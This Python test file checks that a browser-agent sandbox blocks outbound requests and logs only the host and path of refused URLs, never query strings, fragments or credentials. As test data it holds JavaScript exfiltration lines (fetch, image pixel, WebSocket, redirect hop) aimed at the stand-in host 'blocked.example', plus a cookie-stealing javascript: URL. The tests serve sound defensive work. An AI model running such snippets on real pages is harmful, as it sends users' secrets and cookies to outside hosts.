"""The server's logs say what a page was refused (scheme, host and path), never what the page
tried to send with it: the query, the fragment, a user and password. Through a real Chromium
page of a session with allowed_urls, trying every way out it has."""

from __future__ import annotations

import logging

import httpx2
import pytest

from smooth_agents.local.browser.loggable import scrub_urls, url_for_log
from tests.helpers import SiteServer, act, open_session

SECRET = "s3cr3t-8d1f0a"
OUTSIDE = "blocked.example"


def test_what_a_page_tried_to_send_out_never_reaches_the_logs(
    api: httpx2.Client, site: SiteServer, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="smooth_agents")
    session = open_session(api, url=site.url("demo/index.html"), allowed_urls=[site.url("**")])
    leaks = (
        f"fetch('http://{OUTSIDE}/exfil/path?d={SECRET}#{SECRET}').catch(() => 0)",
        f"new Image().src = 'http://user:{SECRET}@{OUTSIDE}/pixel.gif?d={SECRET}'",
        f"new WebSocket('ws://{OUTSIDE}/socket?d={SECRET}')",
        # A hop through the allowed site's redirect, to the outside.
        f"fetch({site.url('redirect')!r} + '?to=' + encodeURIComponent('http://{OUTSIDE}/hop?d={SECRET}'))"
        ".catch(() => 0)",
        f"fetch('data:text/plain,{SECRET}').catch(() => 0)",
    )
    try:
        for js in leaks:
            answer = act(api, session["id"], "browser_action", "evaluate_js", {"js": f"{js}; 1"})
            assert answer["code"] == 200, answer
        settle = "new Promise(done => setTimeout(done, 500))"  # the last requests are refused
        act(api, session["id"], "browser_action", "evaluate_js", {"js": settle})
        refused = act(
            api, session["id"], "browser_action", "goto", {"url": f"http://{OUTSIDE}/page?token={SECRET}"}
        )
        assert refused["code"] == 400, refused
    finally:
        api.delete(f"/task/{session['id']}")
    said = [record.getMessage() for record in caplog.records]
    said += [caplog.text]  # with the tracebacks, if any
    assert not [line for line in said if SECRET in line]
    # What was blocked is said: where it went.
    assert any(f"{OUTSIDE}/exfil/path" in line for line in said), said


@pytest.mark.parametrize(
    ("url", "logged"),
    [
        ("http://user:pw@Example.com:8080/a/b?secret=1#frag", "http://example.com:8080/a/b"),
        ("https://[::1]:9443/p;x=1?q=2", "https://[::1]:9443/p;x=1"),
        ("ws://h/socket?d=1", "ws://h/socket"),
        ("http://h:99999/x?s=1", "http://h/x"),
        ("data:text/html,<b>secret</b>", "data:…"),
        ("blob:https://x.example/2f1e?secret", "blob:…"),
        ("javascript:fetch('//x?'+document.cookie)", "javascript:…"),
        ("about:blank", "about:blank"),
        ("http://[::1/x?secret", "(an unreadable address)"),
        ("http://h/" + "p" * 300, "http://h/" + "p" * 199 + "…"),
    ],
)
def test_a_url_is_logged_as_where_it_went(url: str, logged: str) -> None:
    assert url_for_log(url) == logged


def test_addresses_inside_messages_are_scrubbed() -> None:
    message = (
        f"net::ERR_FAILED at https://x.example/a?d={SECRET}\nCall log:\n"
        f"  - GET http://u:{SECRET}@y.example/b#{SECRET} (data:text/plain,{SECRET})"
    )
    scrubbed = scrub_urls(message)
    assert SECRET not in scrubbed
    assert "https://x.example/a" in scrubbed
    assert "http://y.example/b" in scrubbed
    assert scrub_urls("Error: connect ECONNREFUSED 127.0.0.1:9") == "Error: connect ECONNREFUSED 127.0.0.1:9"
